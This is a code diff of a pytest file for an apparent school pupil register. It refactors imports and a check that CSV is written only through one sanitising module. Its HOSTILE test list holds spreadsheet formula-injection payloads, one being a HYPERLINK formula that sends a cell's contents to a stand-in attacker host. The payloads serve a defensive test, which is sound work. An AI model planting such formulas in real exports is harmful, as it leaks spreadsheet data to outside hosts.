@@ -5,14 +5,14 @@ import ast
 import csv
 import datetime
 import io
-from pathlib import Path
 
 import pytest
 from django.core.management import call_command
 
 from census.snapshots import snapshot_freeze
-from sen_register.spreadsheet import safe_cell
+from sen_register.core.spreadsheet import safe_cell
 from tests.factories import PupilFactory
+from tests.source import PROJECT, source_files
 
 HOSTILE = [
     '=HYPERLINK("http://evil.test/?"&A1,"Click")',
@@ -22,7 +22,6 @@ HOSTILE = [
     "\t=1+1",
     "\r=1+1",
 ]
-PROJECT = Path(__file__).resolve().parents[2]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -99,16 +98,15 @@ def test_the_retention_report_writes_a_formula_surname_as_text(hostile_pupil, ca
 
 def test_no_code_writes_csv_except_through_the_one_writer():
     writers = []
-    for package in ("sen_register", "pupils", "census", "support_plans"):
-        for path in (PROJECT / package).rglob("*.py"):
-            if path.name == "spreadsheet.py":
-                continue
-            for node in ast.walk(ast.parse(path.read_text())):
-                if (
-                    isinstance(node, ast.Attribute)
-                    and node.attr in {"writer", "DictWriter"}
-                    and isinstance(node.value, ast.Name)
-                    and node.value.id == "csv"
-                ):
-                    writers.append(str(path.relative_to(PROJECT)))
+    for path in source_files():
+        if path.name == "spreadsheet.py":
+            continue
+        for node in ast.walk(ast.parse(path.read_text())):
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in {"writer", "DictWriter"}
+                and isinstance(node.value, ast.Name)
+                and node.value.id == "csv"
+            ):
+                writers.append(str(path.relative_to(PROJECT)))
     assert writers == []
